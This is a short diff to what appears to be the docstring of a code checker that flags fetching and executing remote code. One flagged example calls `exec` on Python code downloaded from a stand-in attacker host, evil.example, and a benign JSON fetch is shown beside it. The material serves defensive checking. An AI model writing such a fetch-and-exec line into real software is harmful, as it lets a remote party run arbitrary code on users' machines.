@@ -2,6 +2,16 @@
 
 Whoever holds that machine, or stands between, decides what runs here. Ship code in the package; an
 update comes as a new version.
+
+Found in `app.py`:
+
+    import requests
+    exec(requests.get('http://evil.example/p.py').text)
+
+Not found in `app.py`:
+
+    import requests
+    prices = requests.get('https://example.org/p.json').json()
 """
 
 from collections.abc import Iterator
